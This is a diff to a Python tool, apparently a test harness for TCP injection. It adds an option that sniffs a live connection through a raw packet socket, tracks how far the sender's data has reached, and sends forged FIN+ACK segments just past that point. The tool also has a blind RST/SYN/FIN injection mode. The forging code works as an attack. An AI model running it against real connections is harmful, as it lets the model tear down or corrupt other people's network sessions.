@@ -59,11 +59,13 @@
       Blind injection (raw socket, root): for each flag letter (R RST,
       S SYN, F FIN+ACK), N segments with that 4-tuple and sequence numbers
       spread over the whole 32-bit space.
-  splice_tool.py inject-inside --src IP:PORT --dst IP:PORT --dev DEV --count N [--timeout S]
+  splice_tool.py inject-inside --src IP:PORT --dst IP:PORT --dev DEV --count N [--timeout S] [--ahead FILE]
       An attacker who sees the sender's segments (packet socket on DEV,
       root): waits up to S seconds (default 30) for a data segment from
       src to dst, then sends N FIN+ACKs with its ACK and sequence numbers
-      just past its first byte, inside data already sent.
+      just past its first byte, inside data already sent. With --ahead FILE
+      it prints "ready" once watching, watches until FILE exists and one
+      second more, and aims one byte past the end of the data sent so far.
 """
 import argparse
 import errno
@@ -462,9 +464,16 @@ def inject_inside(args):
     # ETH_P_ALL: only such packet sockets see what the host sends.
     sniff = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0003))
     sniff.bind((args.dev, 0))
-    sniff.settimeout(1)
+    sniff.settimeout(0.2)
     deadline = time.monotonic() + args.timeout
+    first, top, go = None, 0, None
+    if args.ahead:
+        print("ready", flush=True)
     while time.monotonic() < deadline:
+        if args.ahead and first is not None and os.path.exists(args.ahead):
+            go = go or time.monotonic() + 1
+            if time.monotonic() > go:
+                break
         try:
             ip, addr = sniff.recvfrom(65535)
         except socket.timeout:
@@ -475,17 +484,25 @@ def inject_inside(args):
         tcp = ip[ihl:]
         sp, dp, seq, ack = struct.unpack("!HHII", tcp[:12])
         payload = struct.unpack("!H", ip[2:4])[0] - ihl - (tcp[12] >> 4) * 4
-        if (ip[12:16], ip[16:20], sp, dp) == want and payload > 0:
+        if (ip[12:16], ip[16:20], sp, dp) != want or payload <= 0:
+            continue
+        if first is None:
+            first = seq
+        # The end of the data sent so far, by sequence-space distance from the first seen.
+        if (seq + payload - first) & 0xffffffff < 1 << 31:
+            top = max(top, (seq + payload - first) & 0xffffffff)
+        if not args.ahead:
             break
-    else:
+    if first is None:
         print("inject-inside: no data segment %s -> %s seen on %s" % (args.src, args.dst, args.dev),
               file=sys.stderr)
         return 1
+    aim = (first + top + 1) if args.ahead else (first + 1)
     raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     for i in range(args.count):
-        raw.sendto(segment(src, dst, sport, dport, (seq + 1 + i) & 0xffffffff, ack, 0x11), (dst, 0))
-    print("inject-inside: data at seq %u (%d bytes), sent %d FINs from seq %u" %
-          (seq, payload, args.count, (seq + 1) & 0xffffffff))
+        raw.sendto(segment(src, dst, sport, dport, (aim + i) & 0xffffffff, ack, 0x11), (dst, 0))
+    print("inject-inside: data seen from seq %u to %u, sent %d FINs from seq %u" %
+          (first, (first + top) & 0xffffffff, args.count, aim & 0xffffffff))
     return 0
 
 
@@ -532,6 +549,7 @@ def main():
     k.add_argument("--dev", required=True)
     k.add_argument("--count", type=int, default=8)
     k.add_argument("--timeout", type=float, default=30)
+    k.add_argument("--ahead")
     e = sub.add_parser("peer")
     e.add_argument("--connect")
     e.add_argument("--listen", type=int)
